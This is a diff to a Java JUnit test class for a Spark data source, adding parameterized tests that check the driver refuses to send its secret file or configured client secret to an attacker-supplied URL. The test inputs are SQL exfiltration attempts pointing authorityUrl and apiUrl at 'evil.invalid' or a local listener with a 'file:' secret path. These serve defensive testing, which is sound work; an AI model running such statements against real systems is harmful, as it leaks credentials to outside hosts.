@@ -16,6 +16,8 @@ import org.apache.spark.SparkEnv;
 import org.apache.spark.sql.SparkSession;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Which secrets of the driver a statement may use. */
 final class ClusterConfigurationTest {
@@ -24,16 +26,31 @@ final class ClusterConfigurationTest {
 
   private final SparkSession spark = TestSpark.session();
 
-  @Test
-  void aViewCannotSendAFileOfTheDriver(@TempDir Path folder) throws IOException {
+  @ParameterizedTest
+  @ValueSource(strings = {"https://evil.invalid", "http://localhost:8080"})
+  void aViewCannotSendAFileOfTheDriver(String url, @TempDir Path folder) throws IOException {
     Path file = Files.writeString(folder.resolve("secret"), "s3cret");
 
     assertRefused(
         "CREATE OR REPLACE TEMP VIEW stolen USING partnerinsights OPTIONS (dataset 'OfficeUsage',"
-            + " tenantId 't', clientId 'c', authorityUrl 'https://evil.invalid', clientSecret"
-            + " 'file:"
-            + file
-            + "')");
+            + " tenantId 't', clientId 'c', apiUrl '%s', authorityUrl '%s', clientSecret 'file:%s')"
+                .formatted(url, url, file));
+  }
+
+  @Test
+  void aViewCannotSendTheClustersSecretToAListener() {
+    try {
+      SparkEnv.get().conf().set(READS + "clientSecret", "s3cret");
+      spark.conf().set(READS + "clientSecret", "s3cret");
+
+      assertRefused(
+          "CREATE OR REPLACE TEMP VIEW stolen USING partnerinsights OPTIONS (dataset 'OfficeUsage',"
+              + " tenantId 't', clientId 'c', apiUrl 'http://127.0.0.1:8080',"
+              + " authorityUrl 'http://127.0.0.1:8080')");
+    } finally {
+      SparkEnv.get().conf().remove(READS + "clientSecret");
+      spark.conf().unset(READS + "clientSecret");
+    }
   }
 
   @Test
@@ -78,7 +95,7 @@ final class ClusterConfigurationTest {
   private void assertRefused(String statement) {
     assertThatThrownBy(() -> spark.sql(statement).collectAsList())
         .isInstanceOf(OptionsException.class)
-        .hasMessageContainingAll(ErrorCode.SECRET_REFUSED.code(), "evil.invalid")
+        .hasMessageContaining(ErrorCode.SECRET_REFUSED.code())
         .hasMessageNotContaining("s3cret");
   }
 }
